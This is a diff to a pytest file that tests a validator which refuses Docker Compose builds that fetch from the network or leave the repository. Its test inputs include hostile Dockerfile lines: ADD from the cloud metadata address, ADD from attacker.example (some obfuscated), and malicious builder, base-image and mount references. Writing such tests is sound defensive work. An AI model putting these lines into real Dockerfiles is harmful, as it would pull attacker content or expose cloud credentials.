@@ -102,15 +102,45 @@ def test_what_reaches_outside_is_refused_by_name(named: str, line: str) -> None:
         ("build: {context: ., network: host}", "its build asks for network"),
         ("build: {context: ., ssh: [default]}", "its build asks for ssh"),
         ("build: {context: ., dockerfile: ../Dockerfile}", "Dockerfile"),
-        ("build: {context: ., dockerfile: Variable}", "begins with the variable"),
+        ("build: {context: ., dockerfile: Variable}", "takes from the variable"),
         ("build: {context: ., dockerfile: Syntax}", "another builder"),
+        ("build: {context: ., dockerfile: Escape}", "another escape"),
         ("build: {context: absent}", "there is no absent/Dockerfile"),
     ],
 )
 def test_a_build_stays_inside_the_repository(build: str, said: str) -> None:
-    files = {"Variable": "ARG X=evil\nFROM $X\n", "Syntax": "# syntax=evil/builder\nFROM a\n"}
+    files = {
+        "Variable": "ARG X=evil\nFROM $X\n",
+        "Syntax": "# syntax=evil/builder\nFROM a\n",
+        "Escape": "# escape=`\nFROM a\n",
+    }
     with pytest.raises(ComposeRefused, match=said):
         planned(f"services:\n  test:\n    {build}\n", **files)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ADD http://169.254.169.254/latest/meta-data /x",
+        "add --chown=a:b https://attacker.example/ /x",
+        "ADD \\\n# between\n\n  http://attacker.example/ /x",
+        'ADD ["http\\u003a//attacker.example/", "/x"]',
+        "ARG A\nADD $A /x",
+        "ADD git@code.example:a/b.git /x",
+        "ONBUILD ADD http://attacker.example/ /x",
+        "RUN --mount=type=bind,from=evil:1 true",
+        "COPY --from=$A / /x",
+    ],
+)
+def test_the_engine_fetches_nothing_for_a_build(line: str) -> None:
+    with pytest.raises(ComposeRefused, match="its Dockerfile"):
+        planned("services: {test: {build: .}}", Dockerfile=f"FROM a\n{line}\n")
+
+
+def test_what_a_build_copies_from_must_be_there_already() -> None:
+    lines = "FROM a AS One\nADD --chown=1:1 . /x\nFROM b\nCOPY --from=one / /\nCOPY --from=0 / /\n"
+    made = planned("services: {test: {build: .}}", Dockerfile=f"{lines}COPY --from=c:1 / /\n")
+    assert made.images == ("a", "b", "c:1")
 
 
 def test_a_build_is_made_of_our_copy_without_network() -> None:
